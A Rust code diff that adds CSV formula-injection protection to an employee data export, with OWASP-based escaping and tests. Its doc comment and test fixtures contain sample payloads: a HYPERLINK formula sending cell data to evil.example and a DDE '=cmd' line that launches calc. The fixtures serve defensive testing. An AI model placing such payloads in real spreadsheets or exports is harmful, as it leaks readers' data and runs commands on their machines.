@@ -9,8 +9,19 @@
 //!
 //! On an error the temporary file is removed. A process killed mid-write can leave a
 //! `.…tmp-…` file behind (never a final one); such names start with a dot and can be swept.
+//!
+//! CSV files are opened in spreadsheets, which evaluate a cell starting with `=`, `+`, `-` or
+//! `@` as a formula (and some also after a leading tab or carriage return): an employee named
+//! `=HYPERLINK("https://evil.example/?"&A1,"click")` would run in the reader's spreadsheet. So
+//! every *text* cell (name, team, title) that starts with one of those characters, or with their
+//! full-width forms (`＝＋－＠`, which some spreadsheets read the same), is written with a `'`
+//! in front ([`neutralise_formula`]), as OWASP recommends for CSV injection; the spreadsheet
+//! shows it as text. Numeric cells (id, degree, the scores) are formatted by this module from
+//! integers and floats, so they can only start with a digit or `-`, and stay numbers: `-2` and
+//! `-0.5` are not escaped. JSON Lines is data, not a spreadsheet, and is written as is.
 
 use serde::{Deserialize, Serialize};
+use std::borrow::Cow;
 use std::fs::{self, File};
 use std::io::{self, BufWriter, Write};
 use std::path::{Path, PathBuf};
@@ -309,14 +320,32 @@ fn finite(score: Option<f64>) -> Option<f64> {
     score.filter(|s| s.is_finite())
 }
 
-/// `row`'s CSV fields; missing and non-finite scores are empty.
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list: `=`,
+/// `+`, `-`, `@`, tab, carriage return), and the full-width forms of the first four.
+pub const FORMULA_STARTS: [char; 10] =
+    ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+
+/// `text` as a CSV text cell a spreadsheet will not evaluate: with a `'` in front if it starts
+/// with one of [`FORMULA_STARTS`], unchanged otherwise. Only for text columns: a number such as
+/// `-0.5` must stay a number.
+pub fn neutralise_formula(text: &str) -> Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// `row`'s CSV fields; missing and non-finite scores are empty, text cells neutralised
+/// ([`neutralise_formula`]).
 fn csv_fields(row: &EmployeeRow) -> [String; 7] {
     let score = |s: Option<f64>| finite(s).map(|s| format!("{s:?}")).unwrap_or_default();
+    let text = |t: &str| neutralise_formula(t).into_owned();
     [
         row.id.to_string(),
-        row.name.clone(),
-        row.team.clone(),
-        row.title.clone(),
+        text(&row.name),
+        text(&row.team),
+        text(&row.title),
         row.degree.to_string(),
         score(row.pagerank),
         score(row.betweenness),
@@ -470,6 +499,85 @@ mod tests {
         assert_eq!(rest, "plain,t,\"\"\"\"\"\",3,0.30000000000000004,0.7853981633974483\n");
         let second = text.split_once("\n-2,").unwrap().1;
         assert!(second.starts_with("\"Line\nBreak\r\nName\",Zoë's Ünicode 团队 🚀,,0,,0.0\n"));
+    }
+
+    fn hostile_rows() -> Vec<EmployeeRow> {
+        let row = |id: i64, name: &str, team: &str, title: &str, score: Option<f64>| EmployeeRow {
+            id,
+            name: name.into(),
+            team: team.into(),
+            title: title.into(),
+            degree: id * 10,
+            pagerank: score,
+            betweenness: score.map(|s| s * 2.0),
+        };
+        vec![
+            row(
+                1,
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+                "+T",
+                "-title",
+                Some(-0.5),
+            ),
+            row(-2, "@SUM(A1:A9)", "\tTabbed", "\r=1+1", Some(-1e-7)),
+            row(3, "-2+3", "=cmd|' /C calc'!A0", "@here", None),
+            row(4, "\u{FF1D}1+1", "\u{FF0B}x", "\u{FF20}y", Some(0.25)),
+            row(5, "a=b", "'quoted already", "x-y", Some(1.0)),
+        ]
+    }
+
+    #[test]
+    fn csv_neutralises_formulas_in_text_cells_and_keeps_numbers() {
+        let dir = temp_dir("formulas");
+        let rows = hostile_rows();
+        let written = write_export(dir.path(), "hostile", Format::Csv, rows.clone()).unwrap();
+        let records = parse_csv(&fs::read_to_string(&written.path).unwrap());
+        assert_eq!(records.len(), rows.len() + 1);
+        for (record, row) in records[1..].iter().zip(&rows) {
+            // Every text cell that starts like a formula has a quote in front; no other changes.
+            for (cell, text) in
+                [(&record[1], &row.name), (&record[2], &row.team), (&record[3], &row.title)]
+            {
+                let hostile = text.starts_with(FORMULA_STARTS);
+                let expected = if hostile { format!("'{text}") } else { text.clone() };
+                assert_eq!(cell, &expected, "{text:?}");
+                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would be evaluated");
+            }
+            // Numbers stay numbers, negative ones included.
+            assert_eq!(record[0], row.id.to_string());
+            assert_eq!(record[4], row.degree.to_string());
+            assert_eq!(score(&record[5]), row.pagerank);
+            assert_eq!(score(&record[6]), row.betweenness);
+        }
+        assert_eq!(records[1][5], "-0.5", "a negative score is written as a number");
+        assert_eq!(records[2][0], "-2", "a negative id is written as a number");
+        assert_eq!(records[2][2], "'\tTabbed");
+        assert_eq!(
+            records[5][1..4],
+            ["a=b", "'quoted already", "x-y"],
+            "only the first character counts"
+        );
+    }
+
+    #[test]
+    fn jsonl_writes_hostile_text_as_is() {
+        let dir = temp_dir("formulas-jsonl");
+        let rows = hostile_rows();
+        let written = write_export(dir.path(), "hostile", Format::Jsonl, rows.clone()).unwrap();
+        let text = fs::read_to_string(&written.path).unwrap();
+        let parsed: Vec<EmployeeRow> =
+            text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+        assert_eq!(parsed, rows, "JSON Lines is data, not a spreadsheet: nothing is escaped");
+    }
+
+    #[test]
+    fn neutralise_formula_prefixes_only_formula_starts() {
+        for hostile in ["=1", "+1", "-1", "@a", "\ta", "\ra", "\u{FF1D}1", "\u{FF0D}1"] {
+            assert_eq!(neutralise_formula(hostile), format!("'{hostile}"));
+        }
+        for safe in ["", "1", "a=1", " =1", "'=1", "Ünicode", "\n=1"] {
+            assert!(matches!(neutralise_formula(safe), Cow::Borrowed(s) if s == safe), "{safe:?}");
+        }
     }
 
     #[test]
